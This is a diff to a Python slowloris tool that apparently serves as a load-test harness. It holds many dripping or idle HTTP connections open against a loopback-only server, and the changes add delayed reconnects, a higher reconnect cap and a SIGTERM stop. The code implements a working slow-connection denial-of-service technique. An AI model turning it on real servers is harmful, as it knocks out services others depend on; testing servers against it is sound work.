@@ -4,8 +4,8 @@
   slowloris.py hello HOST PORT --sources 127.a.b.1 --nsrc N --per-source K
                --interval S --duration S [--reconnect]
       K connections from each of N source addresses (127.a.b.1, .2, ...), each writing
-      one byte every S seconds and never finishing; reconnects when the server closes
-      one (--reconnect). Prints one JSON line of figures at the end.
+      one byte every S seconds and never finishing; reconnects a second after the server
+      closes one (--reconnect). Prints one JSON line of figures at the end.
   slowloris.py idle HOST PORT --count N --duration S
       N connections that send nothing (an idle HTTP client each), held for S seconds.
 """
@@ -14,6 +14,7 @@ import ipaddress
 import json
 import resource
 import select
+import signal
 import socket
 import sys
 import time
@@ -65,6 +66,13 @@ def closed(conn, stats, now):
         pass
 
 
+STOP = [False]
+
+
+def on_term(signum, frame):
+    STOP[0] = True
+
+
 def hello_attack(a):
     loopback_only(a.host)
     base = ipaddress.ip_address(a.sources)
@@ -73,7 +81,7 @@ def hello_attack(a):
         loopback_only(s)
     total = a.nsrc * a.per_source
     raise_nofile(total)
-    stats = {"connects": 0, "max_connects": total * 20, "connect_failed": 0,
+    stats = {"connects": 0, "max_connects": total * 100, "connect_failed": 0,
              "closed_by_server": 0, "max_held_s": 0.0, "held": []}
     conns = []
     for s in srcs:
@@ -83,8 +91,13 @@ def hello_attack(a):
                 conns.append(c)
     end = time.monotonic() + a.duration
     next_drip = time.monotonic()
-    while time.monotonic() < end:
+    reopen = []  # (when, source): a closed connection comes back a moment later
+    while time.monotonic() < end and not STOP[0]:
         now = time.monotonic()
+        while reopen and reopen[0][0] <= now:
+            n = open_conn(reopen.pop(0)[1], a.host, a.port, stats)
+            if n:
+                conns.append(n)
         if now >= next_drip:
             next_drip = now + a.interval
             for c in conns:
@@ -114,9 +127,7 @@ def hello_attack(a):
                 if not data:
                     closed(c, stats, now)
                     if a.reconnect:
-                        n = open_conn(c.src, a.host, a.port, stats)
-                        if n:
-                            keep.append(n)
+                        reopen.append((now + a.reconnect_delay, c.src))
                     continue
             keep.append(c)
         conns = keep
@@ -146,7 +157,7 @@ def idle_attack(a):
             failed += 1
     end = time.monotonic() + a.duration
     closed_n = 0
-    while time.monotonic() < end and conns:
+    while time.monotonic() < end and conns and not STOP[0]:
         p = select.poll()
         for s in conns:
             p.register(s, select.POLLIN | select.POLLHUP)
@@ -183,7 +194,9 @@ def main():
     ap.add_argument("--duration", type=float, default=10.0)
     ap.add_argument("--count", type=int, default=1)
     ap.add_argument("--reconnect", action="store_true")
+    ap.add_argument("--reconnect-delay", type=float, default=1.0)
     a = ap.parse_args()
+    signal.signal(signal.SIGTERM, on_term)
     if a.duration > 600 or a.nsrc * a.per_source > 10000 or a.count > 10000:
         sys.exit("slowloris.py: at most 10,000 connections for 600 s")
     if a.mode == "hello":
